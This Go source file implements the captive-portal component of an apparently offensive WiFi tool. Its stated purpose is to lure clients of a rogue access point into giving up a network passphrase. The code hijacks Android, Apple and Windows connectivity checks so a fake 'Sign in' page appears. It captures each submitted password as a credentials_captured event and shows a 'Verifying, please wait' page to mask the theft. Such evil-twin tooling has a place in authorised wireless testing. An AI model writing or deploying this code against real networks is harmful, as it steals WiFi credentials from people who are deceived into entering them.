// Package portal serves the captive portal that lures a client onto the
// rogue AP into handing over a WiFi passphrase. It is the Go counterpart of
// web_server_manager.py's Flask app, rebuilt on net/http in the style the
// teacher's own web/server package uses: an http.Server with a
// ReadHeaderTimeout, wrapped in otelhttp, shut down gracefully from a
// goroutine that watches the run's context.
package portal

import (
	"context"
	"fmt"
	"html"
	"net/http"
	"time"

	"github.com/nexusdevtools/capgate/internal/core/domain"
	"github.com/nexusdevtools/capgate/internal/core/ports"
	"github.com/nexusdevtools/capgate/internal/logging"
	"go.opentelemetry.io/contrib/instrumentation/net/http/otelhttp"
)

// Server is the captive portal's HTTP server.
type Server struct {
	log *logging.Logger

	httpServer *http.Server
	events     chan domain.Event
	ssid       string
}

// New returns a portal Server. Its HTTP handlers aren't wired up until
// Start is called.
func New() *Server {
	return &Server{log: logging.Component("portal")}
}

var _ ports.WebServerManager = (*Server)(nil)

// Start serves the captive portal on bindIP:bindPort in its own goroutine
// and returns a channel of credentials_captured events, one per submitted
// login form. The channel is closed when Stop is called.
func (s *Server) Start(ctx context.Context, bindIP string, bindPort int, ssid string) (<-chan domain.Event, error) {
	s.ssid = ssid
	s.events = make(chan domain.Event, 8)

	mux := http.NewServeMux()
	mux.HandleFunc("/", s.handleIndex)
	mux.HandleFunc("/login", s.handleLogin)
	mux.HandleFunc("/generate_204", s.handleConnectivityCheck)    // Android
	mux.HandleFunc("/hotspot-detect.html", s.handleConnectivityCheck) // Apple
	mux.HandleFunc("/connecttest.txt", s.handleConnectivityCheck) // Windows
	mux.HandleFunc("/shutdown", s.handleShutdown)

	s.httpServer = &http.Server{
		Addr:              fmt.Sprintf("%s:%d", bindIP, bindPort),
		Handler:           otelhttp.NewHandler(mux, "portal"),
		ReadHeaderTimeout: 5 * time.Second,
	}

	go func() {
		if err := s.httpServer.ListenAndServe(); err != nil && err != http.ErrServerClosed {
			s.log.Error("portal server exited: %v", err)
		}
	}()

	go func() {
		<-ctx.Done()
		_ = s.Stop(context.Background())
	}()

	return s.events, nil
}

// Stop gracefully shuts down the portal's HTTP server and closes the
// credentials channel.
func (s *Server) Stop(ctx context.Context) error {
	if s.httpServer == nil {
		return nil
	}
	shutdownCtx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	err := s.httpServer.Shutdown(shutdownCtx)
	if s.events != nil {
		close(s.events)
		s.events = nil
	}
	return err
}

// handleConnectivityCheck intentionally returns a non-204/non-success
// response so every major OS's captive-portal detector pops the login page
// instead of concluding internet access is already fine.
func (s *Server) handleConnectivityCheck(w http.ResponseWriter, r *http.Request) {
	http.Redirect(w, r, "/", http.StatusFound)
}

func (s *Server) handleIndex(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	fmt.Fprintf(w, loginPageTemplate, html.EscapeString(s.ssid))
}

func (s *Server) handleLogin(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		http.Error(w, "method not allowed", http.StatusMethodNotAllowed)
		return
	}
	if err := r.ParseForm(); err != nil {
		http.Error(w, "bad form", http.StatusBadRequest)
		return
	}
	password := r.FormValue("password")

	ev := domain.Event{
		Time:      time.Now(),
		Component: "portal",
		Kind:      domain.EventKindCredentialCaptured,
		Message:   "captive portal login submitted",
		Fields:    map[string]any{"ssid": s.ssid, "password": password},
	}
	if s.events != nil {
		select {
		case s.events <- ev:
		default:
			s.log.Warn("credential event channel full, dropping submission")
		}
	}

	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	fmt.Fprint(w, verifyingPageHTML)
}

func (s *Server) handleShutdown(w http.ResponseWriter, r *http.Request) {
	w.WriteHeader(http.StatusOK)
	go func() {
		_ = s.Stop(context.Background())
	}()
}

const loginPageTemplate = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Wi-Fi Connection</title></head>
<body>
<h2>Sign in to %s</h2>
<form method="POST" action="/login">
<input type="password" name="password" placeholder="Wi-Fi password" required>
<button type="submit">Connect</button>
</form>
</body></html>`

const verifyingPageHTML = `<!DOCTYPE html>
<html><body><p>Verifying, please wait...</p></body></html>`
